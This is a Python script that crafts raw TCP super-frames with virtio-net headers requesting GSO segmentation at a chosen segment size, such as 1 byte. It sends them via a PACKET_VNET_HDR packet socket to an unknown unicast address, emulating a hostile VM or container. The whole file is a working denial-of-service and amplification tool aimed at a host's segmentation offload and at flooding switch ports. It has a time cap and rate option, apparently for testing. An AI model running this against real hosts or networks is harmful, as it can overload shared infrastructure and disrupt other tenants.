#!/usr/bin/env python3
"""Writes TCP super-frames with a chosen GSO segment size into an interface, as a hostile VM or
container would: a packet socket with PACKET_VNET_HDR, each frame behind a virtio-net header
that asks for TCPv4 segmentation (NEEDS_CSUM, csum_start at the TCP header). The frames go to
an unknown unicast address, so a switch on the other side floods them to every port.

Bounded: stops after --seconds, sends at most --rate frames a second (0: as fast as it can).
Prints how many frames it wrote.
Run: gso_sender.py --iface IF --gso-size 1 --seconds 3 [--rate 0] [--payload 64000]
"""
import argparse, socket, struct, time

PACKET_VNET_HDR = 15
SOL_PACKET = 263

def checksum16(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s

def super_frame(payload_len):
    eth = bytes.fromhex("020000000099" "0200000000aa") + b"\x08\x00"
    src, dst = socket.inet_aton("10.77.0.50"), socket.inet_aton("10.77.0.99")
    total = 20 + 20 + payload_len
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, 1, 0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", 0xFFFF - checksum16(ip)) + ip[12:]
    tcp_len = 20 + payload_len
    # the checksum field holds the pseudo-header sum only (CHECKSUM_PARTIAL)
    pseudo = checksum16(src + dst + struct.pack("!BBH", 0, 6, tcp_len))
    tcp = struct.pack("!HHIIBBHHH", 40000, 5201, 1, 1, 5 << 4, 0x10, 512, pseudo, 0)
    return eth + ip + tcp + bytes(k % 251 for k in range(payload_len))

def main():
    p = argparse.ArgumentParser()
    p.add_argument("--iface", required=True)
    p.add_argument("--gso-size", type=int, required=True)
    p.add_argument("--seconds", type=float, default=3)
    p.add_argument("--rate", type=float, default=0)
    p.add_argument("--payload", type=int, default=64000)
    a = p.parse_args()
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)
    s.bind((a.iface, 0))
    # struct virtio_net_hdr: flags, gso_type, hdr_len, gso_size, csum_start, csum_offset
    vnet = struct.pack("<BBHHHH", 1, 1, 54, a.gso_size, 34, 16)
    frame = vnet + super_frame(a.payload)
    end = time.monotonic() + min(a.seconds, 60)
    sent = 0
    while time.monotonic() < end:
        try:
            s.send(frame)
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.001)
        if a.rate > 0:
            time.sleep(1 / a.rate)
    print(f"sent {sent}")

main()
